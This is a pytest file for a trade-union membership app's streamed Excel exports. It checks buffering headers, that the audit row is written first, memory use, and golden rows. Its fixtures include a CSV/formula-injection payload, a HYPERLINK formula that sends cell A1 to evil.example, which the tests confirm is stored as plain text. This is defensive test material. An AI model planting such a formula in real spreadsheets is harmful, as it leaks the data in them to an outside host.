"""Every download is written while it is sent: the first bytes leave before the rows are read, the audit row is
committed before them, memory stays flat whatever the row count, and the statements do not grow with the rows.
The workbooks hold exactly what the in-memory ones held (golden rows below, taken from them)."""

import io
import tracemalloc
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, select, update

from app.extensions import db
from app.models import (
    ApplicationStatus,
    AuditLog,
    CardDelivery,
    CardStatus,
    Enterprise,
    MembershipApplication,
    MutualAidCardApplication,
)
from app.services import privacy
from app.services.afterday import member_register
from tests.conftest import csrf_token_from
from tests.factories import make_application, make_card, make_enterprise, org_named
from tests.volume import seed_people, statements

AT = datetime(2026, 11, 20, 2, 30, tzinfo=UTC)  # 10:30 in Beijing
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
VENUE = "北京工字投资管理有限责任公司1号标厂"


def downloads(meeting_id: int) -> dict[str, tuple[str, str, dict | None]]:
    """name → (method, path, form) of every download staff can take."""
    return {
        "applications": ("post", "/exports/applications", {}),
        "applications_full": ("post", "/exports/applications", {"unmasked": "1"}),
        "member_register": ("post", "/exports/member-register", {}),
        "bank_file": ("post", "/cards/bank-file", {}),
        "ledger": ("get", "/ledger/export", None),
        "day_summary": ("get", f"/meetings/{meeting_id}/summary.xlsx", None),
    }


FROM_THE_DATABASE = ["applications", "applications_full", "member_register", "bank_file", "ledger"]
# The ledger holds no personal data and is not audited.
AUDITED = {"applications": "export.applications", "applications_full": "export.applications",
           "member_register": "export.member_register", "bank_file": "cards.bank_file",
           "day_summary": "summary_export"}


@pytest.fixture
def district(staff_login):
    session = staff_login("district")
    session.csrf_token = csrf_token_from(session.get("/exports").text)
    return session


def open_download(session, method: str, path: str, form: dict | None):
    """The response as the browser starts to receive it: headers sent, body not yet read."""
    if method == "get":
        return session.client.get(path, buffered=False)
    return session.client.post(path, data={**form, "csrf_token": session.csrf_token}, buffered=False)


def body_of(response) -> bytes:
    try:
        return b"".join(response.response)
    finally:
        response.close()


def sheet_rows(content: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))


def download(session, name: str, meeting_id: int) -> bytes:
    response = open_download(session, *downloads(meeting_id)[name])
    assert response.status_code == 200
    return body_of(response)


def enterprises(count: int, town_org_id: int) -> None:
    db.session.execute(insert(Enterprise), [
        {"name": f"顺义企业{n:05d}", "town_org_id": town_org_id, "employees": 30, "members": 3, "has_union": False,
         "new_form_workers": 0, "new_form_members": 0} for n in range(count)
    ])
    db.session.commit()


def volume(seeded, count: int) -> None:
    """`count` applications with a card each (a quarter sent to the bank) and `count` firms."""
    seed_people(count, seeded.meeting.venues)
    enterprises(count, seeded.meeting.venues[0].host_org_id)


@pytest.mark.parametrize("name", FROM_THE_DATABASE + ["day_summary"])
def test_a_download_is_an_unbuffered_attachment_audited_before_its_first_byte(district, seeded, name):
    volume(seeded, 8)
    response = open_download(district, *downloads(seeded.meeting.id)[name])

    with db.engine.connect() as another_connection:  # sees only what was committed
        logged = another_connection.scalar(select(AuditLog.detail).where(AuditLog.action == AUDITED.get(name)))
    assert response.status_code == 200 and response.is_streamed
    assert "Content-Length" not in response.headers
    assert response.headers["X-Accel-Buffering"] == "no"
    assert response.headers["Cache-Control"] == "no-store"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "filename*=UTF-8''" in disposition and ".xlsx" in disposition
    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert (logged is not None and logged["rows"] > 0) if name in AUDITED else logged is None
    assert len(sheet_rows(body_of(response))) > 1


@pytest.mark.parametrize("name", FROM_THE_DATABASE)
def test_the_first_bytes_leave_before_the_rows_are_read(district, seeded, name):
    volume(seeded, 40)
    response = open_download(district, *downloads(seeded.meeting.id)[name])
    chunks = iter(response.response)

    with statements() as before_first_chunk:
        first = next(chunks)
    with statements() as for_the_rest:
        rest = b"".join(chunks)
    response.close()

    assert first[:2] == b"PK" and before_first_chunk == []
    assert any(statement.lstrip().upper().startswith("SELECT") for statement in for_the_rest)
    assert len(sheet_rows(first + rest)) > 10


@pytest.mark.parametrize("name", FROM_THE_DATABASE)
def test_a_download_costs_the_same_statements_at_one_and_four_times_the_rows(district, seeded, name):
    def statements_of_one_download() -> int:
        with statements() as sent:
            download(district, name, seeded.meeting.id)
        return len(sent)

    volume(seeded, 40)
    at_1x = statements_of_one_download()
    volume(seeded, 120)
    at_4x = statements_of_one_download()

    assert at_1x == at_4x


def same_person_many_times(venue, count: int) -> None:
    """`count` approved applications in one executemany; one set of ciphertexts (the test is about the export)."""
    person = {"name_enc": privacy.encrypt("张三丰"), "id_number_enc": privacy.encrypt("110113199005170011"),
              "mobile_enc": privacy.encrypt("13812345678"), "employer": "北京顺义物流有限公司", "consent": True,
              "consent_version": "2026-11", "status": ApplicationStatus.APPROVED, "meeting_id": venue.meeting_id,
              "venue_id": venue.id, "host_org_id": venue.host_org_id}
    db.session.execute(insert(MembershipApplication),
                       [{**person, "id_blind_index": f"same-{n}", "member_no": f"M-{n}"} for n in range(count)])
    db.session.commit()


# Seen 2026-12-07 under tracemalloc: streamed, 4.7–5.2 MB at 2,000, 5,000 and 10,000 rows alike (one batch of rows
# and the zip's buffers); the in-memory export, 17 MB at 2,000 rows and 41 MB at 5,000 (every row's ORM object and
# openpyxl cell). 3,000 rows keep the test quick under tracemalloc.
ROWS_FOR_MEMORY = 3_000
MEMORY_BOUND_BYTES = 10 * 2**20


def test_a_large_export_streams_in_flat_memory(district, seeded):
    same_person_many_times(seeded.meeting.venues[0], ROWS_FOR_MEMORY)
    export = downloads(seeded.meeting.id)["applications"]
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        response = open_download(district, *export)
        sent = sum(len(chunk) for chunk in response.response)  # each chunk dropped once counted, as a socket would
        response.close()
        peak = tracemalloc.get_traced_memory()[1] - before
    finally:
        tracemalloc.stop()

    assert sent > 100_000
    assert peak < MEMORY_BOUND_BYTES, f"peak {peak / 2**20:.1f} MB"


@pytest.fixture
def golden_rows(seeded):
    """Two approved members (one with a name that is a formula, one with a tab before '='), their cards, a firm."""
    venue = next(v for v in seeded.meeting.venues if v.host_org.name == "仁和镇")
    hostile = make_application(
        venue, name=HYPERLINK, id_no="110113199005170011", mobile="13812345678", submitted_at=AT,
        status=ApplicationStatus.APPROVED, member_no="008-2026-000001", decided_at=AT,
        employer="北京<顺义>&物流", employer_credit_code="91110113MA01ABCD2X", industry="交通运输、仓储和邮政业",
        new_form_job="快递员", education="本科", hukou_type="外埠农业", political_status="群众",
        is_migrant_worker=True, id_valid_long_term=True, residence=" 顺义区仁和镇 ",
    )
    plain = make_application(
        venue, name="李四", id_no="110113198802020028", mobile="13900001111", submitted_at=AT,
        status=ApplicationStatus.APPROVED, member_no="008-2026-000002", decided_at=AT,
        employer="\t=1", industry=None, id_valid_until=date(2030, 1, 2),
    )
    make_card(hostile, delivery=CardDelivery.BRANCH, branch="北京银行顺义支行", status=CardStatus.SENT_TO_BANK)
    make_card(plain, status=CardStatus.SENT_TO_BANK)
    db.session.execute(update(MutualAidCardApplication).values(created_at=AT))
    make_enterprise(org_named("仁和镇"), "=1+1 公司", credit_code="91110113MA01ABCD2X", industry="制造业",
                    employees=30, members=3, has_union=False, new_form_workers=2, new_form_members=1)


APPLICATIONS_HEADER = ("序号", "姓名", "身份证号", "手机号", "性别", "出生日期", "工作单位", "统一社会信用代码", "行业",
                       "新就业形态", "沟通会", "会场", "承办工会", "状态", "会员编号", "提交时间")
PLACE = ("顺义区职工沟通会", VENUE, "仁和镇", "已通过")
# What the in-memory exports (openpyxl, before 2026-12-07) wrote for the golden rows, read back by openpyxl.
GOLDEN = {
    "applications": [
        APPLICATIONS_HEADER,
        (1, "=" + "*" * 42, "110***********0011", "138****5678", "男", "1990年", "北京<顺义>&物流",
         "91110113MA01ABCD2X", "交通运输、仓储和邮政业", "快递员", *PLACE, "008-2026-000001", "2026-11-20 10:30"),
        (2, "李*", "110***********0028", "139****1111", "女", "1988年", "\t=1", None, None, None, *PLACE,
         "008-2026-000002", "2026-11-20 10:30"),
    ],
    "applications_full": [
        APPLICATIONS_HEADER,
        (1, HYPERLINK, "110113199005170011", "13812345678", "男", "1990-05-17", "北京<顺义>&物流",
         "91110113MA01ABCD2X", "交通运输、仓储和邮政业", "快递员", *PLACE, "008-2026-000001", "2026-11-20 10:30"),
        (2, "李四", "110113198802020028", "13900001111", "女", "1988-02-02", "\t=1", None, None, None, *PLACE,
         "008-2026-000002", "2026-11-20 10:30"),
    ],
    "member_register": [
        tuple(member_register.COLUMNS),
        (1, HYPERLINK, 1, "110113199005170011", "1990-05-17", "13812345678", 4, 1, 6, 6, None, None, 3,
         "北京<顺义>&物流", "91110113MA01ABCD2X", 7, " 顺义区仁和镇 ", "长期", "2026-11-20", "008-2026-000001",
         "仁和镇"),
        (2, "李四", 2, "110113198802020028", "1988-02-02", "13900001111", None, None, None, None, None, None, None,
         "\t=1", None, None, None, "2030-01-02", "2026-11-20", "008-2026-000002", "仁和镇"),
    ],
    "bank_file": [
        ("序号", "姓名", "证件类型", "证件号码", "性别", "出生日期", "手机号码", "工作单位", "领卡方式", "领卡网点",
         "所属工会", "会员编号", "申请日期"),
        (1, HYPERLINK, "居民身份证", "110113199005170011", "男", "1990-05-17", "13812345678", "北京<顺义>&物流",
         "到银行网点领取", "北京银行顺义支行", "仁和镇", "008-2026-000001", "2026-11-20"),
        (2, "李四", "居民身份证", "110113198802020028", "女", "1988-02-02", "13900001111", "\t=1", "现场办理", None,
         "仁和镇", "008-2026-000002", "2026-11-20"),
    ],
    "ledger": [
        ("企业名称", "统一社会信用代码", "所属镇街", "行业", "职工人数", "会员人数", "是否建会", "建会日期",
         "新就业形态劳动者人数", "新就业形态会员人数"),
        ("=1+1 公司", "91110113MA01ABCD2X", "仁和镇", "制造业", 30, 3, "否", None, 2, 1),
    ],
}


@pytest.mark.parametrize("name", sorted(GOLDEN))
def test_the_streamed_workbook_holds_the_rows_the_in_memory_one_held(district, seeded, golden_rows, name):
    content = download(district, name, seeded.meeting.id)
    sheet = load_workbook(io.BytesIO(content)).active

    assert sheet_rows(content) == GOLDEN[name]
    text_cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in text_cells)  # a string, never a formula
